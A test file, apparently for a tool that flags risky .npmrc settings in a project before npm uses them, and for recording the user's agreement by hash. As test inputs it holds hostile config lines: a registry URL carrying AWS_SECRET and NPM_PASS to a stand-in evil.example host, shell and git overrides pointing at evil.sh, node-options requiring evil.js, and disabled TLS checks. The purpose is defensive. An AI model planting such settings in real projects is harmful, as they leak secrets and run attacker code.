import { createHash } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { tempProject } from '../world/npm.ts';
import { inspect, inspectIn } from './inspect.ts';

const mine = 'registry=https://registry.example/\n';

describe('a project without settings', () => {
  it('is fine', async () => {
    const { inspection } = await inspect({ mine });
    expect(inspection).toEqual({ kind: 'fine', notes: [] });
  });
});

describe('harmless settings', () => {
  it('count without a question', async () => {
    const { inspection, texts } = await inspect({
      mine,
      npmrc: 'save-exact=true\nfund=false\naudit=false\nengine-strict=true\nlegacy-peer-deps=true\n',
    });
    expect(inspection.kind).toBe('fine');
    expect(inspection.notes).toHaveLength(5);
    expect(inspection.notes.every(({ counts }) => counts)).toBe(true);
    expect(texts.get('save-exact')).toBe('save-exact = true: counts, it weakens nothing.');
  });

  it('ask when they take a variable, whose name is told and whose value is not', async () => {
    const { keys, texts } = await inspect({
      npmrc: `user-agent=\${DEPLOY_KEY}\n`,
      env: { DEPLOY_KEY: 'hunter2' },
    });
    expect(keys).toEqual(['user-agent']);
    expect(texts.get('user-agent')).toBe(
      `user-agent = \${DEPLOY_KEY}: it takes DEPLOY_KEY from your environment.`,
    );
  });
});

describe('settings that redirect traffic', () => {
  it('show a registry with what changes', async () => {
    const { keys, texts, inspection, project } = await inspect({
      mine,
      npmrc: 'registry=https://npm.corp.example/\n',
    });
    expect(keys).toEqual(['registry']);
    expect(texts.get('registry')).toBe(
      'registry = https://npm.corp.example/: all packages would come from https://npm.corp.example/ (now: https://registry.example/).',
    );
    expect(inspection).toMatchObject({ file: project.path('.npmrc') });
  });

  it('show a scope with the registry that it has now', async () => {
    const { texts } = await inspect({ mine, npmrc: '@acme:registry=https://npm.acme.example/\n' });
    expect(texts.get('@acme:registry')).toContain(
      'packages of @acme would come from https://npm.acme.example/ (now: https://registry.example/).',
    );
  });

  it('name the variables that an address would carry away, never their values', async () => {
    const { keys, inspection } = await inspect({
      mine,
      npmrc: `registry=https://evil.example/\${AWS_SECRET}/\n//\${NPM_PASS}.evil.example/:email=x\n`,
      env: { AWS_SECRET: 'hunter2', NPM_PASS: 'swordfish' },
    });
    expect(keys).toEqual(['registry', `//\${NPM_PASS}.evil.example/:email`]);
    const told = JSON.stringify(inspection);
    expect(told).toContain('the value of your variable AWS_SECRET would go into it');
    expect(told).toContain('NPM_PASS from your environment');
    expect(told).not.toMatch(/hunter2|swordfish/);
  });

  it.each([
    ['proxy=http://10.0.0.1:8080'],
    ['https-proxy=http://10.0.0.1:8080'],
    ['noproxy=registry.example'],
    ['local-address=10.0.0.1'],
    ['scope=@acme'],
    ['replace-registry-host=always'],
  ])('ask: %s', async (line) => {
    expect((await inspect({ mine, npmrc: line })).keys).toEqual([line.split('=')[0]]);
  });
});

describe('settings that run programs, weaken protection or stand for others', () => {
  it.each([
    ['git=./evil.sh'],
    ['script-shell=./evil.sh'],
    ['node-options=--require ./evil.js'],
    ['init.module=./evil.js'],
    ['yes=true'],
    ['strict-ssl=false'],
    ['cafile=./ca.pem'],
    ['ca=anything'],
    ['cache=./cache'],
    ['prefer-offline=true'],
    ['before=2020-01-01'],
    ['global=true'],
    ['force=true'],
    ['//registry.example/:_authToken=0123'],
    ['//registry.example/:certfile=./mine.pem'],
    // Not npm's, but npm tells scripts all it reads: node-gyp starts this one.
    ['python=./evil.sh'],
    ['electron_mirror=https://evil.example/'],
    // The same for an npm that a script starts.
    ['Script_Shell=./evil.sh'],
    ['Strict_SSL=false'],
  ])('ask: %s', async (line) => {
    expect((await inspect({ npmrc: line })).keys).toEqual([line.slice(0, line.indexOf('='))]);
  });

  it.each([
    ['strict-ssl=true'],
    ['ignore-scripts=true'],
    ['offline=false'],
    ['yes=false'],
    ['location=project'],
    // Other tools' settings that start and fetch nothing.
    ['auto-install-peers=true'],
    ['node-linker=hoisted'],
    ['always-auth=true'],
    ['//registry.example/:always-auth=true'],
    // Known to npm 11 and later only.
    ['allow-git=none'],
    ['dangerously-allow-all-scripts=false'],
  ])('do not ask: %s', async (line) => {
    expect((await inspect({ npmrc: line })).keys).toEqual([]);
  });

  it('ask when they undo what the user tightened', async () => {
    const { keys } = await inspect({
      mine: 'ignore-scripts=true\nstrict-ssl=true\n',
      npmrc: 'ignore-scripts=false\n',
    });
    expect(keys).toEqual(['ignore-scripts']);
  });
});

describe('a waiting time', () => {
  it.each([
    ['', '3', []],
    ['min-release-age=3\n', '3', []],
    ['min-release-age=3\n', '7', []],
    ['min-release-age=3\n', '2', ['min-release-age']],
    ['min-release-age=3\n', '0', ['min-release-age']],
  ])('of the user %j against %s days of the project', async (own, days, asked) => {
    const { keys } = await inspect({ mine: own, npmrc: `min-release-age=${days}\n` });
    expect(keys).toEqual(asked);
  });
});

describe("the user's own settings", () => {
  it('make an equal line of the project a matter of course', async () => {
    const { keys, texts } = await inspect({ mine, npmrc: mine });
    expect(keys).toEqual([]);
    expect(texts.get('registry')).toContain('no effect, it is what you have anyway');
  });

  it.each([
    [{ env: { npm_config_registry: 'https://ci.example/' } }, 'your environment'],
    [{ args: ['install', '--registry=https://ci.example/'] }, 'your command line'],
  ])('on the command line and in the environment win: %j', async (own, who) => {
    const { keys, texts, inspection } = await inspect({ npmrc: 'registry=https://evil.example/\n', ...own });
    expect(keys).toEqual([]);
    expect(texts.get('registry')).toContain(`no effect, ${who} sets it too`);
    expect(inspection.notes[0]?.counts).toBe(false);
  });

  it('are not those of a file that the project makes npm read in their place', async () => {
    await using project = tempProject({
      theirs: 'registry=https://evil.example/\nscript-shell=./evil.sh\n',
    });
    const npmrc = `userconfig=${project.path('theirs')}\nregistry=https://evil.example/\n`;
    const { keys, inspection } = await inspectIn(project, { mine, npmrc });
    expect(keys).toEqual(['userconfig', 'registry', 'registry', 'script-shell']);
    expect(inspection).toMatchObject({ files: [project.path('.npmrc'), project.path('theirs')] });
  });

  it('are never looked for where a variable points', async () => {
    const npmrc = `userconfig=/tmp/\${TOKEN}/npmrc\n`;
    await expect(inspect({ npmrc, env: { TOKEN: 'hunter2' } })).rejects.toMatchObject({
      code: 'config-untrusted',
      message: expect.stringMatching(/^(?!.*hunter2).*your variable TOKEN decide/),
    });
  });

  it('are not those of a global folder that the project chose', async () => {
    await using project = tempProject({ 'global/etc/npmrc': 'git=./evil.sh\n' });
    const { keys } = await inspectIn(project, { npmrc: `prefix=${project.path('global')}\n` });
    expect(keys).toEqual(['prefix', 'git']);
  });
});

describe('agreeing', () => {
  const npmrc = 'registry=https://npm.corp.example/\n';

  it('is asked for by the hash of the bytes', async () => {
    const { hash } = await inspect({ mine, npmrc });
    expect(hash).toBe(createHash('sha256').update(npmrc).digest('hex'));
  });

  it('is remembered by the hash', async () => {
    const { hash } = await inspect({ mine, npmrc });
    const again = await inspect({ mine, npmrc, agreed: [hash ?? ''] });
    expect(again.inspection).toMatchObject({ kind: 'fine', notes: [{ key: 'registry', counts: true }] });
    expect(again.texts.get('registry')).toMatch(/You agreed to it\.$/);
    const changed = await inspect({ mine, npmrc: `${npmrc}# changed\n`, agreed: [hash ?? ''] });
    expect(changed.keys).toEqual(['registry']);
  });

  it('is not needed for a file that the command line names', async () => {
    const named = await inspect({ mine, npmrc, vouched: ['.npmrc'] });
    expect(named.inspection.kind).toBe('fine');
    expect(named.texts.get('registry')).toMatch(/Named by --trust\.$/);
    const other = await inspect({ mine, npmrc, vouched: ['sub/.npmrc'] });
    expect(other.inspection.kind).toBe('needs-agreement');
  });

  it('covers the program that a line names, and this project only', async () => {
    const situation = { npmrc: 'script-shell=./sh\n' };
    await using one = tempProject({ sh: 'good' });
    const first = await inspectIn(one, situation);
    expect((await inspectIn(one, situation)).hash).toBe(first.hash);
    one.write('sh', 'evil');
    expect((await inspectIn(one, situation)).hash).not.toBe(first.hash);
    await using other = tempProject({ sh: 'good' });
    expect((await inspectIn(other, situation)).hash).not.toBe(first.hash);
  });
});
